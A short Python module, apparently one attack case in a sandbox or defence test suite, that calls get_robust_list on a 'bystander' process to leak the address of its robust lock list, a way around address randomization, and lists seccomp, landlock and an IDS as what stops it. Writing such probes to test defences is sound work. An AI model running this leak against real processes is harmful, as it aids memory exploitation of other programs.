"""Ask where a process keeps its locks.

The address lies in its memory, which is placed at random to be hard to guess.

Stopped by: seccomp, landlock, ids
"""

import ctypes

from calls import make


def attack(facts):
    head, size = ctypes.c_void_p(), ctypes.c_size_t()
    make("get_robust_list", facts["bystander"], ctypes.addressof(head), ctypes.addressof(size))
